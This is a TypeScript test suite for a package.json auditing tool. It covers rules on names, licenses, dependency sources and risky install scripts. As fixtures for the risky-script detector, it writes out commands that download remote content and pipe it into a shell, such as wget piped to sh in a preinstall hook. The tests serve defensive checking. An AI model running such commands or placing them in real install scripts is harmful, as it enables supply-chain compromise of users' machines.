import { readFileSync } from 'node:fs';
import { runTool, resultText, structured } from '@mcp/core-protocol/testing';
import type { Envelope } from '@mcp/core-response';
import { auditPackageJsonTool } from './audit-package-json.tool';
import { checkLicense } from './spdx-expression';
import { nameProblem } from './package-name';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url), 'utf8');
const audit = async (content: string) => structured<Envelope>(await runTool(auditPackageJsonTool, { content }));
const ids = (env: Envelope) => env.findings.map((f) => `${f.ruleId}${f.package ? ` ${f.package}` : ''}${f.script ? ` ${f.script}` : ''} @${f.location?.line}`);

describe('node_audit_package_json', () => {
  it('finds nothing in a well-formed library manifest', async () => {
    const env = await audit(fixture('library.package.json'));
    expect(env.findings).toEqual([]);
  });

  it('reports every problem of a messy service manifest at its key', async () => {
    const env = await audit(fixture('service.package.json'));
    expect(ids(env)).toEqual([
      'require-engines @1',
      'require-files @1',
      'require-type @1',
      'name-format @2',
      'valid-license @7',
      'risky-lifecycle-script postinstall @11',
      'no-loose-version-dependencies lodash @18',
      'no-loose-version-dependencies stripe @19',
      'no-git-dependencies pdfkit @20',
      'no-git-dependencies acme-ledger @21',
      'no-file-dependencies internal-auth @22',
      'no-archive-dependencies legacy-soap @23',
      'no-loose-version-dependencies pg-native @28',
      'no-loose-version-devDependencies eslint @31',
      'no-repeated-dependencies jest @32',
      'no-file-devDependencies @acme/test-fixtures @34',
      'no-git-devDependencies acme-eslint-rules @35',
      'no-duplicate-properties @37',
    ]);
    const byId = (id: string) => env.findings.find((f) => f.ruleId === id)!;
    expect(byId('name-format').message).toBe('Package name "Billing-Service": name can no longer contain capital letters');
    expect(byId('risky-lifecycle-script').message).toContain('The postinstall script pipes into bash');
    expect(byId('risky-lifecycle-script').script).toBe('postinstall');
    expect(byId('no-duplicate-properties').message).toContain('Property version is defined more than once');
    expect(byId('valid-license').message).toContain('"apache" is not an SPDX license identifier');
    expect(env.summary).toMatchObject({ errors: 5 });
    expect(resultText(await runTool(auditPackageJsonTool, { content: fixture('service.package.json') }))).toContain('`no-git-dependencies` (line 20:5): pdfkit in dependencies is installed from git');
  });

  it('flags downloads in install scripts but not in other scripts', async () => {
    const pkg = (scripts: Record<string, string>) => JSON.stringify({ name: 'x', type: 'module', files: [], engines: {}, license: 'MIT', scripts }, null, 2);
    expect(ids(await audit(pkg({ preinstall: 'wget -qO- https://example.com/setup | sh' })))).toEqual(['risky-lifecycle-script preinstall @8']);
    expect(ids(await audit(pkg({ install: 'node -e "require(\'https\').get(\'https://x.io/bin\')"' })))).toEqual(['risky-lifecycle-script install @8']);
    expect((await audit(pkg({ postinstall: 'node scripts/patch.js', release: 'curl -X POST https://hooks.example.com | sh' }))).findings).toEqual([]);
  });

  it('validates SPDX expressions like npm', () => {
    for (const ok of ['MIT', '(MIT OR Apache-2.0)', 'GPL-2.0-only WITH Classpath-exception-2.0', 'Apache-2.0 AND (MIT OR ISC)', 'UNLICENSED', 'SEE LICENSE IN LICENSE.md', 'LicenseRef-Acme-EULA', 'GPL-2.0+', 'GPL-3.0']) {
      expect([ok, checkLicense(ok).valid]).toEqual([ok, true]);
    }
    for (const bad of ['mit', 'MIT/X11', 'BSD', 'MIT OR', '(MIT', 'Apache 2.0', 'GPL-2.0-only WITH Nonsense']) {
      expect([bad, checkLicense(bad).valid]).toEqual([bad, false]);
    }
    expect(checkLicense('mit').suggestion).toBe('MIT');
  });

  it('checks names as validate-npm-package-name does', () => {
    expect(nameProblem('@acme/http-retry')).toBeUndefined();
    expect(nameProblem('http')).toBe('http is a core module name');
    expect(nameProblem('.hidden')).toBe('name cannot start with a period');
    expect(nameProblem('my package')).toBe('name can only contain URL-friendly characters');
    expect(nameProblem('@acme/.x')).toBe('name cannot start with a period');
  });

  it('reports a JSON syntax error with line and column', async () => {
    const reply = await runTool(auditPackageJsonTool, { content: '{\n  "name": "x",\n  "version": "1.0.0"\n  "main": "index.js"\n}' });
    expect(resultText(reply)).toBe("line 4, column 3: Expected ',' or '}' after property value");
  });

  it('names the invalid field', async () => {
    expect(resultText(await runTool(auditPackageJsonTool, { content: 42 }))).toMatch(/^Invalid arguments: content: /);
    expect(resultText(await runTool(auditPackageJsonTool, { content: '{}', options: { strict: true } }))).toMatch(/^Invalid arguments: options: Unrecognized key.*strict/);
  });
});
